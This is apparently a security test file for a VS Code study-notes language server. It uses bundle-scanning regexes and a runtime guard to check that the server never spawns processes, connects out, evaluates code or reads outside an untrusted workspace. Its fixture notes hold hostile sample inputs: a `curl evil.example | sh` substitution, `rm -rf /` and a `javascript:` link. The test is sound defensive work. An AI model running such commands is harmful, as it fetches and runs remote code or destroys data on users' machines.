// What the shipped bundles may do when a TA opens a fork they did not write: run no program,
// evaluate no code, load no module by a computed name, open no network connection. Checked twice:
// statically, by reading dist/server.js, dist/serverMain.js and dist/extension.js (each esbuild module is marked with a
// `// node_modules/...` or `// server/src/...` comment, so every hit is attributed to its module and
// compared with a short list of documented exceptions), and at run time, by running the server
// under a guard that records every child_process, network and eval-like call it makes.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { builtinModules } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { ensureBuilt, SpawnedServer, projectRoot } from '../support/lsp';

interface Hit {
  module: string;
  text: string;
}

/** Each occurrence of `pattern` in a bundle, with the source module esbuild says it came from. */
function hits(bundle: string, pattern: RegExp): Hit[] {
  const source = readFileSync(path.join(projectRoot, 'dist', bundle), 'utf8');
  // esbuild names a module by its real path from the project: node_modules linked from elsewhere reads `../x/node_modules/…`.
  const marks = [...source.matchAll(/^\/\/ (?:\.\.\/\S*?\/)?((?:node_modules|server|client)\/\S+)$/gm)].map((match) => ({ at: match.index, module: match[1] }));
  const found: Hit[] = [];
  for (const match of source.matchAll(pattern)) {
    let module = '(bundle preamble)';
    for (const mark of marks) if (mark.at < match.index) module = mark.module;
    found.push({ module, text: match[0] });
  }
  return found;
}

const modulesOf = (found: Hit[]): string[] => [...new Set(found.map((hit) => hit.module))].sort();

/**
 * Library code that can start a process, and why it never runs for us:
 * - vscode-languageserver/lib/node/files.js: `Files.resolve*` fork `npm`/`yarn` to find global
 *   modules for servers that load user plugins; nothing in server/src calls `Files`.
 * - vscode-languageclient/lib/node/{main,processes}.js: the client starts its server. Ours is
 *   `dist/server.js` of the extension itself (client/src/server.ts, TransportKind.ipc): a path in
 *   the extension, never a program or path from the workspace.
 * - server/src/workspace/gitHistory.ts (ours): the notes' git history is read by the `git` binary
 *   (`log`, `cat-file --batch`; no pager, hook, filter or network), run from the temporary folder so
 *   that a student's `git.exe` is never the one found; the server asks it only in a trusted workspace.
 */
const gitHistory = 'server/src/workspace/gitHistory.ts';
const codeCache = 'server/src/lsp/codeCache.ts';
/** dist/server.js loads the Node modules serverMain.js requires before it changes V8's flags, and calls none of them (server/src/lsp/cachedStart.ts). */
const cachedStart = 'server/src/lsp/cachedStart.ts';
const childProcessAllowed: Record<string, string[]> = {
  'server.js': [cachedStart],
  'serverMain.js': ['node_modules/vscode-languageserver/lib/node/files.js', gitHistory],
  'extension.js': ['node_modules/vscode-languageclient/lib/node/main.js', 'node_modules/vscode-languageclient/lib/node/processes.js'],
};

/**
 * `net` and `crypto` are required by vscode-jsonrpc's node transport (named pipes and sockets for
 * the `--pipe`/`--socket` transports, random pipe names); the server runs over stdio or IPC.
 */
const netAllowed = ['node_modules/vscode-jsonrpc/lib/node/main.js'];

describe('the bundles run nothing, evaluate nothing and connect nowhere', function () {
  this.timeout(120_000);
  before(() => ensureBuilt());

  // server.js runs serverMain.js (the server) from V8's code cache; web/: VS Code for the web's extension and its server as a Web Worker: no Node module at all.
  for (const bundle of ['server.js', 'serverMain.js', 'extension.js', 'web/server.js', 'web/extension.js']) {
    it(`${bundle}: child_process only in the language server library's documented places`, () => {
      const found = hits(bundle, /require\("(?:node:)?child_process"\)|from "(?:node:)?child_process"|process\.binding\(|process\.dlopen\(/g);
      assert.deepEqual(modulesOf(found), childProcessAllowed[bundle] ?? []);
    });

    it(`${bundle}: no http, https, http2, dgram, tls or dns; net only in the JSON-RPC transport`, () => {
      assert.deepEqual(hits(bundle, /require\("(?:node:)?(?:https?|http2|dgram|tls|dns|undici)"\)|\bfetch\(|new WebSocket\(|XMLHttpRequest/g), []);
      assert.deepEqual(modulesOf(hits(bundle, /require\("(?:node:)?net"\)/g)), bundle.startsWith('web/') ? [] : bundle === 'server.js' ? [cachedStart] : netAllowed);
    });

    it(`${bundle}: no eval, no new Function, no vm but to compile the server's own bundle, no require of a computed name`, () => {
      const found = hits(bundle, /(?<![\w.$])eval\(|new Function\(|require\("(?:node:)?vm"\)|\bimport\((?!["'])/g);
      // server.js compiles dist/serverMain.js, a file beside it, with V8's code cache (server/src/lsp/codeCache.ts).
      assert.deepEqual(modulesOf(found), bundle === 'server.js' ? [codeCache] : []);
      // esbuild resolves every literal require; what is left with a non-literal argument loads
      // whatever name it is given at run time.
      const dynamic = hits(bundle, /(?<![\w.$])require\((?!["'`]|\))[^)]{0,80}\)/g).filter((hit) => !/^require\(\s*["']/.test(hit.text));
      assert.deepEqual(dynamic, [], 'require with a computed argument');
    });
  }

  it('server.js loads every Node module serverMain.js requires before it changes V8\'s flags, and calls none of them', () => {
    const nodeModules = (bundle: string) => new Set(hits(bundle, /require\("([^"]+)"\)/g).map((hit) => hit.text.slice('require("'.length, -'")'.length).replace(/^node:/, '')).filter((name) => builtinModules.includes(name)));
    const loadedFirst = nodeModules('server.js');
    assert.deepEqual([...nodeModules('serverMain.js')].filter((name) => !loadedFirst.has(name)), [], 'loaded after the flags change, from source (cachedStart.ts)');
    assert.deepEqual(hits('server.js', /\b(?:spawn|spawnSync|exec|execSync|execFile|execFileSync|fork|connect|createConnection|createServer)\(|new \w*\.?Worker\(/g), [], 'server.js starts no process, thread or connection');
  });

  it('server and CLI: our own code imports no process, network or eval module', () => {
    for (const bundle of ['serverMain.js', 'cli.js']) {
      const own = hits(bundle, /require\("(?:node:)?(?:child_process|net|https?|http2|dgram|tls|dns|vm|worker_threads)"\)/g).filter((hit) => hit.module.startsWith('server/'));
      // The CLI reads a class's files on its other cores, the server long texts on a second thread: their worker threads run their own built file, nothing else.
      const ownThreads = (hit: { module: string; text: string }) => hit.module === 'server/src/workspace/readingWorker.ts' && hit.text.includes('worker_threads');
      const gitBinary = (hit: { module: string; text: string }) => hit.module === gitHistory && hit.text.includes('child_process');
      assert.deepEqual(own.filter((hit) => !ownThreads(hit) && !gitBinary(hit)), [], bundle);
      const workers = hits(bundle, /new (?:import_node_worker_threads\.)?Worker\([^,)]*/g);
      assert.deepEqual(workers.map((hit) => hit.text), ['new import_node_worker_threads.Worker(bundle'], `a worker runs the bundle it is given (${bundle})`);
    }
  });
});

/** Preloaded into the server: records (and refuses) every process start, connection and eval, and every file read. */
const guard = `
const fs = require('node:fs');
const log = (kind, detail) => fs.appendFileSync(process.env.GUARD_LOG, JSON.stringify({ kind, detail: String(detail) }) + '\\n');
const refuse = (kind) => function (...args) { log(kind, args[0]); throw new Error('guard: ' + kind + ' refused'); };
const cp = require('node:child_process');
for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) cp[name] = refuse('child_process.' + name);
const net = require('node:net');
for (const name of ['connect', 'createConnection']) net[name] = refuse('net.' + name);
net.Socket.prototype.connect = refuse('net.Socket.connect');
for (const mod of ['http', 'https']) { const m = require('node:' + mod); m.request = refuse(mod + '.request'); m.get = refuse(mod + '.get'); }
require('node:dns').lookup = refuse('dns.lookup');
globalThis.fetch = refuse('fetch');
const vm = require('node:vm');
vm.runInThisContext = refuse('vm.runInThisContext');
const Script = vm.Script;
vm.Script = class extends Script { constructor(code, options) { log('compile', options && options.filename); super(code, options); } };
globalThis.eval = refuse('eval');
const wrapRead = (name) => { const original = fs[name]; fs[name] = function (file, ...rest) { log('read', file); return original.call(this, file, ...rest); }; };
for (const name of ['readFileSync', 'readFile', 'openSync', 'open', 'createReadStream']) wrapRead(name);
const promises = fs.promises; const readFile = promises.readFile; const open = promises.open;
promises.readFile = function (file, ...rest) { log('read', file); return readFile.call(this, file, ...rest); };
promises.open = function (file, ...rest) { log('read', file); return open.call(this, file, ...rest); };
`;

describe('the server at run time, in an untrusted fork', function () {
  this.timeout(120_000);
  let scratch: string;
  let server: SpawnedServer | undefined;

  before(() => {
    ensureBuilt();
    scratch = mkdtempSync(path.join(tmpdir(), 'study-notes-guard-'));
  });

  after(async () => {
    await server?.stop();
    rmSync(scratch, { recursive: true, force: true });
  });

  it('starts no process, opens no connection, evaluates nothing and reads nothing outside the workspace', async () => {
    const workspace = path.join(scratch, 'fork');
    const outside = path.join(scratch, 'outside');
    mkdirSync(path.join(workspace, 'notes'), { recursive: true });
    mkdirSync(outside);
    const guardFile = path.join(scratch, 'guard.cjs');
    const logFile = path.join(scratch, 'guard.log');
    writeFileSync(guardFile, guard);
    writeFileSync(logFile, '');
    // A catalog outside the workspace, named by the fork's settings: an untrusted workspace must not read it.
    writeFileSync(path.join(outside, 'catalog.json'), JSON.stringify({ modules: [{ area: 'Secrets', level: 'Beginner', title: 'Outside file', minutes: 1 }] }));
    const notes = [
      '## Area 1: Docker and Containers',
      '> Beginner Level',
      '',
      '[Lab: Docker Intro](javascript:alert(1)) (time: 30 min)',
      'Ran `docker run -it --rm alpine sh` and `dokcer ps`, `$(curl evil.example | sh)`.',
      '',
      '```bash',
      '$ docker ps --al',
      'kubectl get pods -o wide; rm -rf / # never run',
      '```',
      '',
    ].join('\n');
    writeFileSync(path.join(workspace, 'notes', 'README.md'), notes);
    const uri = pathToFileURL(path.join(workspace, 'notes', 'README.md')).toString();
    server = await SpawnedServer.start({
      pull: true,
      nodeArgs: ['--require', guardFile],
      env: { GUARD_LOG: logFile, STUDY_NOTES_CACHE_DIR: path.join(scratch, 'code-cache') },
      rootUri: pathToFileURL(workspace).toString(),
      initializationOptions: { workspaceTrusted: false },
      settings: { studyNotes: { catalog: path.join(outside, 'catalog.json') } },
    });
    await server.open(uri, notes);
    const textDocument = { uri };
    const diagnostics = await server.diagnostics(uri, 1);
    assert.ok(diagnostics.some((diagnostic) => diagnostic.code === 'docker-command'), 'docker lines are checked from the bundled data');
    await server.request('textDocument/documentSymbol', { textDocument });
    await server.request('textDocument/hover', { textDocument, position: { line: 7, character: 4 } });
    await server.request('textDocument/hover', { textDocument, position: { line: 3, character: 5 } });
    await server.request('textDocument/completion', { textDocument, position: { line: 7, character: 9 } });
    await server.request('textDocument/codeAction', { textDocument, range: diagnostics[0].range, context: { diagnostics } });
    await server.request('workspace/symbol', { query: '' });
    await server.request('studyNotes/outline', { uri });
    // await server.connection.sendNotification('workspace/didChangeWatchedFiles', { changes: [{ uri: pathToFileURL(path.join(outside, 'catalog.json')).toString(), type: 2 }] });
    await server.request('textDocument/documentSymbol', { textDocument });
    assert.ok(server.alive, 'the server still runs');

    const events = readFileSync(logFile, 'utf8').split('\n').filter(Boolean).map((line) => JSON.parse(line) as { kind: string; detail: string });
    // What it compiles is its own bundle, once: dist/server.js runs dist/serverMain.js from its code cache.
    assert.deepEqual(events.filter((event) => event.kind !== 'read'), [{ kind: 'compile', detail: path.join(projectRoot, 'dist', 'serverMain.js') }], 'no process, connection or eval');
    const allowed = [fsPath(workspace), path.join(projectRoot, 'dist'), path.join(projectRoot, 'node_modules'), path.join(scratch, 'code-cache')];
    const reads = events.filter((event) => event.kind === 'read').map((event) => event.detail);
    const outsideReads = reads.filter((file) => !allowed.some((root) => path.resolve(file).startsWith(root + path.sep)));
    // The watched-files notification names a file outside the workspace: the client would not send
    // it, and the server must not read it either way. Reported, not hidden, if it does.
    assert.deepEqual(outsideReads, [], `files read outside the workspace: ${outsideReads.join(', ')}`);
  });
});

function fsPath(directory: string): string {
  return path.resolve(directory);
}
